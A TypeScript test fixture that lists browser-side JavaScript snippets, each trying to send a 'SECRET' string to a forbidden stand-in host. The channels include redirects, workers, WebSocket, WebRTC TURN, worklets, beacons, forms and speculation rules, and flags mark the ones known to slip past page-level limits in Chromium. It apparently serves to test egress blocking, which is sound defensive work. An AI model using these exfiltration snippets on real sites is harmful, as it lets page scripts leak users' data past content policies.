/** The ways by which a script in a page can try to speak with a host that its bank does not declare. */

export type WayOut = {
  name: string;
  /** Over what it would arrive. */
  over: 'tcp' | 'udp';
  /**
   * Runs in the page. `there` is the forbidden `host:port`, and `sentOn(status)` an address of the bank that sends the request
   * on to it. `text` is a script that a worker runs.
   */
  script: string;
  /** The page is left or covered by it, so that it needs one of its own. */
  alone?: true;
  /** What is known to arrive where nothing but the page is limited, in every Chromium that was tried. */
  leaks?: true;
};

const inWorker = (text: string) => `const there_ = JSON.stringify(there), bank_ = JSON.stringify(location.origin);
  const text = 'const there = ' + there_ + ', bank = ' + bank_ + ';' + ${JSON.stringify(text)};
  const file = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));`;
const dedicated = (text: string) => `${inWorker(text)} new Worker(file)`;
const nested = (text: string) => `${inWorker(text)} new Worker(URL.createObjectURL(new Blob(
  ['new Worker(' + JSON.stringify(file) + ')'], { type: 'text/javascript' })))`;
const shared = (text: string) => `${inWorker(text)} new SharedWorker(file)`;
const sharedData = (text: string) =>
  `${inWorker(text)} new SharedWorker('data:text/javascript,' + encodeURIComponent(text))`;
const element = (name: string, set: string) =>
  `const element = document.createElement('${name}'); ${set}; document.body.append(element)`;
const form = (
  action: string,
  rest = '',
) => `${element('form', `element.method = 'post'; element.action = ${action}; ${rest}`)};
  const field = document.createElement('input'); field.name = 's'; field.value = 'SECRET'; element.append(field); element.submit()`;
const rules = (kind: string, to: string) =>
  `${element(
    'script',
    `element.type = 'speculationrules';
  element.textContent = JSON.stringify({ ${kind}: [{ source: 'list', urls: [${to}], eagerness: 'immediate' }] })`,
  )}`;
const rtc = (server: string) => `const peer = new RTCPeerConnection({ iceServers: [${server}] });
  peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); window.peers = [...(window.peers ?? []), peer]`;
const http = "'http://' + there + '/x?SECRET'";
const ws = "'ws://' + there + '/x?SECRET'";

export const waysOut: WayOut[] = [
  // Sent on by the bank's own host.
  { name: 'fetch, sent on', over: 'tcp', leaks: true, script: "await fetch(sentOn(302), { mode: 'no-cors' })" },
  {
    name: 'fetch with a body, sent on by 307',
    over: 'tcp',
    leaks: true,
    script: "await fetch(sentOn(307), { mode: 'no-cors', method: 'POST', body: 'SECRET' })",
  },
  { name: 'picture, sent on', over: 'tcp', leaks: true, script: element('img', 'element.src = sentOn(302)') },
  {
    name: 'frame, sent on',
    over: 'tcp',
    alone: true,
    leaks: true,
    script: element('iframe', 'element.src = sentOn(302)'),
  },
  { name: 'form, sent on by 307', over: 'tcp', leaks: true, alone: true, script: form('sentOn(307)') },
  { name: 'form, sent on by 308', over: 'tcp', leaks: true, alone: true, script: form('sentOn(308)') },
  { name: 'visit, sent on', over: 'tcp', leaks: true, alone: true, script: 'location = sentOn(302)' },
  { name: 'window, sent on', over: 'tcp', leaks: true, alone: true, script: 'window.open(sentOn(302))' },
  {
    name: 'fetch of a worker, sent on',
    over: 'tcp',
    leaks: true,
    script: dedicated(`fetch(bank + '/to?status=302&to=' + encodeURIComponent(${http}), { mode: 'no-cors' })`),
  },
  // Workers.
  { name: 'WebSocket of a worker', over: 'tcp', leaks: true, script: dedicated(`new WebSocket(${ws})`) },
  { name: 'WebSocket of a nested worker', over: 'tcp', leaks: true, script: nested(`new WebSocket(${ws})`) },
  { name: 'fetch of a worker', over: 'tcp', script: dedicated(`fetch(${http}, { mode: 'no-cors' })`) },
  { name: 'fetch of a shared worker', over: 'tcp', leaks: true, script: shared(`fetch(${http}, { mode: 'no-cors' })`) },
  { name: 'WebSocket of a shared worker', over: 'tcp', leaks: true, script: shared(`new WebSocket(${ws})`) },
  {
    name: 'fetch of a shared worker from data:',
    over: 'tcp',
    leaks: true,
    script: sharedData(`fetch(${http}, { mode: 'no-cors' })`),
  },
  {
    name: 'WebSocket of a shared worker from data:',
    over: 'tcp',
    leaks: true,
    script: sharedData(`new WebSocket(${ws})`),
  },
  { name: 'script of a shared worker', over: 'tcp', script: `new SharedWorker(${http})` },
  { name: 'importScripts of a worker', over: 'tcp', script: dedicated(`importScripts(${http})`) },
  {
    name: 'service worker',
    over: 'tcp',
    script: "await navigator.serviceWorker.register('/worker.js?to=' + encodeURIComponent(there))",
  },
  // Other doors of the browser.
  { name: 'WebSocketStream', over: 'tcp', script: `await new WebSocketStream(${ws}).opened` },
  { name: 'WebSocketStream of a worker', over: 'tcp', script: dedicated(`new WebSocketStream(${ws}).opened`) },
  { name: 'STUN', over: 'udp', script: rtc("{ urls: 'stun:' + there }") },
  {
    name: 'TURN over UDP',
    over: 'udp',
    script: rtc("{ urls: 'turn:' + there + '?transport=udp', username: 'SECRET', credential: 'x' }"),
  },
  {
    name: 'TURN over TCP',
    over: 'tcp',
    script: rtc("{ urls: 'turn:' + there + '?transport=tcp', username: 'SECRET', credential: 'x' }"),
  },
  { name: 'WebTransport', over: 'udp', script: "await new WebTransport('https://' + there + '/x?SECRET').ready" },
  {
    name: 'WebTransport of a worker',
    over: 'udp',
    script: dedicated("new WebTransport('https://' + there + '/x?SECRET').ready"),
  },
  {
    name: 'audio worklet',
    over: 'tcp',
    leaks: true,
    script: `await new AudioContext().audioWorklet.addModule(${http})`,
  },
  { name: 'paint worklet', over: 'tcp', script: `await CSS.paintWorklet.addModule(${http})` },
  { name: 'layout worklet', over: 'tcp', script: `await CSS.layoutWorklet.addModule(${http})` },
  { name: 'shared storage worklet', over: 'tcp', script: `await sharedStorage.worklet.addModule(${http})` },
  { name: 'prefetch by rules', over: 'tcp', script: rules('prefetch', http) },
  { name: 'prefetch by rules, sent on', over: 'tcp', script: rules('prefetch', 'sentOn(302)') },
  { name: 'prerender by rules, sent on', over: 'tcp', script: rules('prerender', 'sentOn(302)') },
  { name: 'fetchLater', over: 'tcp', script: `fetchLater(${http}, { activateAfter: 0 })` },
  {
    name: 'fetchLater of a page that is left',
    over: 'tcp',
    alone: true,
    script: `fetchLater(${http}); location = '/empty'`,
  },
  {
    name: 'beacon of a page that is left',
    over: 'tcp',
    leaks: true,
    alone: true,
    script: `addEventListener('pagehide', () => navigator.sendBeacon(${http}, 'SECRET')); location = '/empty'`,
  },
  {
    name: 'kept fetch of a page that is left',
    over: 'tcp',
    alone: true,
    script: `addEventListener('pagehide', () => fetch(${http}, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'SECRET' })); location = '/empty'`,
  },
  {
    name: 'FedCM',
    over: 'tcp',
    script: `await navigator.credentials.get({ identity: { providers: [{ configURL: ${http}, clientId: 'x', nonce: 'x' }] } })`,
  },
  // Those that the limit in the page holds as well.
  { name: 'fetch', over: 'tcp', script: `await fetch(${http}, { mode: 'no-cors' })` },
  { name: 'https', over: 'tcp', script: "await fetch('https://' + there, { mode: 'no-cors' })" },
  {
    name: 'XMLHttpRequest',
    over: 'tcp',
    script: `const call = new XMLHttpRequest(); call.open('POST', ${http}); call.send('SECRET')`,
  },
  { name: 'EventSource', over: 'tcp', script: `new EventSource(${http})` },
  { name: 'WebSocket', over: 'tcp', script: `new WebSocket(${ws})` },
  { name: 'beacon', over: 'tcp', script: `navigator.sendBeacon(${http}, 'SECRET')` },
  { name: 'picture', over: 'tcp', script: element('img', `element.src = ${http}`) },
  { name: 'style sheet', over: 'tcp', script: element('link', `element.rel = 'stylesheet'; element.href = ${http}`) },
  { name: 'font', over: 'tcp', script: `await new FontFace('x', 'url(http://' + there + '/x?SECRET)').load()` },
  { name: 'script', over: 'tcp', script: element('script', `element.src = ${http}`) },
  { name: 'module', over: 'tcp', script: `await import(${http})` },
  { name: 'film', over: 'tcp', script: element('video', `element.src = ${http}`) },
  { name: 'object', over: 'tcp', script: element('object', `element.data = ${http}`) },
  { name: 'frame', over: 'tcp', script: element('iframe', `element.src = ${http}`) },
  {
    name: 'WebSocket of a frame within',
    over: 'tcp',
    script: element('iframe', `element.srcdoc = '<script>new WebSocket("ws://' + there + '/x")</' + 'script>'`),
  },
  {
    name: 'WebSocket of a sandboxed frame',
    over: 'tcp',
    script: element(
      'iframe',
      `element.sandbox = 'allow-scripts'; element.srcdoc = '<script>new WebSocket("ws://' + there + '/x")</' + 'script>'`,
    ),
  },
  {
    name: 'preload',
    over: 'tcp',
    script: element('link', `element.rel = 'preload'; element.as = 'image'; element.href = ${http}`),
  },
  { name: 'prefetch', over: 'tcp', script: element('link', `element.rel = 'prefetch'; element.href = ${http}`) },
  {
    name: 'preconnect',
    over: 'tcp',
    script: element('link', `element.rel = 'preconnect'; element.href = 'http://' + there`),
  },
  {
    name: 'dns-prefetch',
    over: 'tcp',
    script: element('link', `element.rel = 'dns-prefetch'; element.href = 'http://' + there`),
  },
  {
    name: 'ping of a link',
    over: 'tcp',
    alone: true,
    script: element('a', `element.href = '#x'; element.ping = ${http}; setTimeout(() => element.click())`),
  },
  {
    name: 'download',
    over: 'tcp',
    alone: true,
    script: element('a', `element.href = ${http}; element.download = 'x'; setTimeout(() => element.click())`),
  },
  { name: 'form', over: 'tcp', alone: true, script: form(http) },
  { name: 'form into a window', over: 'tcp', alone: true, script: form(http, "element.target = '_blank'") },
  { name: 'window', over: 'tcp', alone: true, script: `window.open(${http})` },
  { name: 'visit', over: 'tcp', alone: true, script: `location = ${http}` },
  {
    name: 'visit by a meta tag',
    over: 'tcp',
    alone: true,
    script: element(
      'meta',
      `element.httpEquiv = 'refresh'; element.content = '0;url=http://' + there; document.head.append(element)`,
    ),
  },
  {
    name: 'another spelling of the address',
    over: 'tcp',
    script: "await fetch('http://2130706433:' + there.split(':')[1] + '/', { mode: 'no-cors' })",
  },
  {
    name: 'localhost',
    over: 'tcp',
    script: "await fetch('http://localhost:' + there.split(':')[1] + '/', { mode: 'no-cors' })",
  },
  {
    name: 'report of a content policy',
    over: 'tcp',
    alone: true,
    script: "location = '/policy?to=' + encodeURIComponent(there)",
  },
];
